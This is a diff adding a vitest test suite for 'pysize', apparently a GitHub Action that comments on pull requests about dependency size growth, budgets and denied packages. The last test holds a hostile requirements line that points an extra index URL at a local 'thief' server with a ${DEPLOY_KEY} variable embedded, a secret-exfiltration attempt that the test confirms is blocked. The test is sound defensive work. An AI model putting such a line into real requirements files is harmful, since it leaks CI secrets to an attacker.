@@ -1,0 +1,190 @@
+import { describe, expect, test } from 'vitest'
+import { indexOf, wheel } from '../scenarios/support.ts'
+import { pullRequestJob } from './pull-request-job.ts'
+
+const files = [
+  wheel('web 1.0', { requires: ['jinja'], size: 4_000_000 }),
+  wheel('jinja 3.0', { size: 2_000_000 }),
+  wheel('torch 2.9', { requires: ['nvidia-cublas'], size: 9_000_000 }),
+  wheel('nvidia-cublas 12.8', { size: 30_000_000 }),
+  wheel('tiny 1.0', { size: 2_000 }),
+]
+
+/** A project that uses an index of the test, with further settings. */
+async function project(requirements: string, settings = '') {
+  const { index } = await indexOf(files)
+  const pyproject = (more: string): string => `[tool.pysize]\npython = "3.11"\ncompile = false\nindex-url = "${index}"\n${more}`
+  return { 'requirements.txt': requirements, 'pyproject.toml': pyproject(settings), pyproject }
+}
+
+const job = async (before: string, after: string, settings = '') => {
+  const { pyproject: _, ...base } = await project(before, settings)
+  return pullRequestJob(base, { 'requirements.txt': after })
+}
+
+describe('the comment', () => {
+  test('is written once, and follows the pull request', async () => {
+    const { github, push, run } = await job('web\n', 'web\ntorch\n')
+    const first = await run()
+    expect(first).toMatchObject({ code: 0, outputs: { result: 'passed', comment: 'created' } })
+    expect(Number(first.outputs.growth)).toBeGreaterThan(39_000_000)
+    expect(github.comments.map(({ body }) => body)).toEqual([expect.stringMatching(/^<!-- pysize default -->\n### pysize\n[\s\S]*torch/)])
+    expect(first.summary).toContain('nvidia-cublas')
+
+    // It says to the minute when the index was read.
+    expect((await run()).outputs.comment).toMatch(/^(?:unchanged|updated)$/)
+    expect(github.comments).toHaveLength(1)
+    push({ 'requirements.txt': 'web\ntorch\ntiny\n' })
+    expect(await run()).toMatchObject({ outputs: { comment: 'updated' } })
+    expect(github.comments).toHaveLength(1)
+    expect(github.comments[0]?.body).toContain('tiny')
+
+    push({ 'requirements.txt': 'web\n', 'README.md': 'Hello' })
+    expect(await run()).toMatchObject({ code: 0, outputs: { comment: 'removed', growth: '0' } })
+    expect(github.comments).toEqual([])
+  })
+
+  test('is not written for what nobody notices', async () => {
+    const { github, run } = await job('web\n', 'web\ntiny\n')
+    const { outputs, summary } = await run()
+    expect(outputs).toMatchObject({ result: 'passed', comment: 'none' })
+    expect(summary).toContain('tiny')
+    expect(await run({ inputs: { threshold: '1kB' } })).toMatchObject({ outputs: { comment: 'created' } })
+    expect(github.comments).toHaveLength(1)
+  })
+
+  test('is told from those of people and of other workflows, and doubles are removed', async () => {
+    const { github, run } = await job('web\n', 'web\ntorch\n')
+    const marker = '<!-- pysize default -->\n'
+    const [bot, person] = [
+      { login: 'github-actions[bot]', type: 'Bot' },
+      { login: 'stranger', type: 'User' },
+    ]
+    const others = Array.from({ length: 150 }, (_, id) => ({ id, body: 'Looks good', user: person }))
+    github.comments.push(
+      ...others,
+      { id: 200, body: `${marker}All fine`, user: person },
+      { id: 201, body: '<!-- pysize nightly -->\nold', user: bot },
+      { id: 202, body: `${marker}old`, user: bot },
+      { id: 203, body: `${marker}doubled`, user: bot },
+    )
+    expect(await run()).toMatchObject({ outputs: { comment: 'updated' } })
+    const left = github.comments.filter(({ id }) => id >= 200)
+    expect(left.map(({ id }) => id)).toEqual([200, 201, 202])
+    expect(left.map(({ body }) => body.includes('torch'))).toEqual([false, false, true])
+  })
+
+  test.each([
+    ['of a fork', { isFork: true }],
+    ['of Dependabot, whose token may not write', {}],
+  ])('%s is left to the summary', async (_, given) => {
+    const { github, run } = await job('web\n', 'web\ntorch\n')
+    github.readOnly = true
+    const result = await run(given)
+    expect(result).toMatchObject({ code: 0, outputs: { comment: 'forbidden', result: 'passed' } })
+    expect(result.commands).toBe(
+      '::notice title=pysize::GitHub answered 403 to the request to comment: the report is in the summary of this job.\n',
+    )
+    expect(result.summary).toContain('nvidia-cublas')
+  })
+
+  test('for a fork is written by a second workflow', async () => {
+    const { github, run } = await job('web\n', 'web\ntorch\n')
+    expect(await run({ event: 'workflow_run' })).toMatchObject({ code: 0, outputs: { comment: 'created' } })
+    expect(github.requests[0]).toBe('GET /pulls?state=open&head=stranger%3Atopic')
+    expect(github.comments[0]?.body).toContain('torch')
+  })
+})
+
+describe('the job', () => {
+  test('fails where the environment grows by more than is allowed', async () => {
+    const { run } = await job('web\n', 'web\ntorch\n')
+    const { code, commands, outputs } = await run({ inputs: { 'fail-if-grows': '10MB' } })
+    expect([code, outputs.result]).toEqual([1, 'failed'])
+    expect(commands).toMatch(
+      /^::error title=pysize,file=requirements\.txt,line=2::requirements\.txt: \+39\.\d MB on disk, at most 10\.0 MB allowed\.\n$/,
+    )
+    expect(await run({ inputs: { 'fail-if-grows': '10MB', 'fail-on': 'budget' } })).toMatchObject({ code: 0 })
+  })
+
+  test('holds a pull request to the budget of its base', async () => {
+    const { pyproject, ...base } = await project('web\n', 'budget = "20MB"\n')
+    const { run } = await pullRequestJob(base, { 'requirements.txt': 'web\ntorch\n', 'pyproject.toml': pyproject('budget = "1GB"\n') })
+    const { code, commands } = await run()
+    expect(code).toBe(1)
+    expect(commands).toMatch(/requirements\.txt: 45\.\d MB, 25\.\d MB over the budget of 20\.0 MB\./)
+  })
+
+  test('fails for a denied package, with the way to it', async () => {
+    const { run } = await job('web\n', 'web\ntorch\n', 'deny = "nvidia-*"\n')
+    const { code, commands } = await run()
+    expect(code).toBe(1)
+    expect(commands).toBe(
+      '::error title=pysize,file=requirements.txt,line=2::requirements.txt: nvidia-cublas 12.8 is denied by nvidia-*. It comes by torch > nvidia-cublas.\n',
+    )
+  })
+
+  test('compares each target that the base names', async () => {
+    const { run } = await job('web\n', 'web\ntorch\n', 'targets = ["3.11", "3.12 linux/arm64"]\n')
+    const { summary } = await run()
+    expect(summary).toMatch(/<details><summary>3\.12 linux\/arm64: \+39\.\d MB on disk<\/summary>/)
+  })
+
+  test('says nothing of a change that installs nothing else', async () => {
+    const { github, push, run } = await job('web\n', 'web\n')
+    push({ 'README.md': 'Hello' })
+    expect(await run()).toMatchObject({ code: 0, outputs: { result: 'passed', comment: 'none' } })
+    expect(github.requests.filter((one) => !one.startsWith('GET'))).toEqual([])
+  })
+
+  test('has nothing to do for another event', async () => {
+    const { run } = await job('web\n', 'web\ntorch\n')
+    expect(await run({ event: 'push' })).toEqual({
+      code: 0,
+      commands: '::notice title=pysize::There is no open pull request to compare: push.\n',
+      summary: '',
+      outputs: {},
+    })
+  })
+
+  test('fails for a head that cannot be resolved, at its line, and not for such a base', async () => {
+    const broken = await job('web\n', 'web\nno-such-project\n')
+    const { code, commands } = await broken.run()
+    expect(code).toBe(1)
+    expect(commands).toMatch(/^::error title=pysize,file=requirements\.txt,line=2::In [0-9a-f]{12}: .*no-such-project/)
+    const repaired = await job('web\nno-such-project\n', 'web\n')
+    expect(await repaired.run()).toMatchObject({ code: 0 })
+  })
+})
+
+describe('an index that cannot be used', () => {
+  const offline = () =>
+    pullRequestJob(
+      { 'requirements.txt': 'web\n', 'pyproject.toml': '[tool.pysize]\nindex-url = "http://127.0.0.1:9/simple/"\n' },
+      { 'requirements.txt': 'web\ntorch\n' },
+    )
+
+  test('decides nothing, and is told', async () => {
+    const { run } = await offline()
+    const { code, commands, outputs, summary } = await run()
+    expect([code, outputs.result]).toEqual([0, 'neutral'])
+    expect(commands).toMatch(/^::warning title=pysize::/)
+    expect(summary).toContain('127.0.0.1:9')
+  })
+
+  test('fails the job where the workflow wants that', async () => {
+    const { run } = await offline()
+    expect(await run({ inputs: { 'on-index-error': 'fail' } })).toMatchObject({ code: 1, outputs: { result: 'failed' } })
+  })
+})
+
+test("a stranger's files see no variable of the job", async () => {
+  const { index } = await indexOf(files)
+  const seen: string[] = []
+  const thief = await indexOf([], { intercept: ({ path }) => void seen.push(path) })
+  const change = { 'requirements.txt': `--extra-index-url ${thief.url}/\${DEPLOY_KEY}\nweb\ntorch\n` }
+  const { run } = await pullRequestJob({ 'requirements.txt': `--index-url ${index}\nweb\n` }, change)
+  await run({ event: 'workflow_run', env: { DEPLOY_KEY: 'canary' } })
+  expect(seen.join()).not.toContain('canary')
+  expect(seen.length).toBeGreaterThan(0)
+})
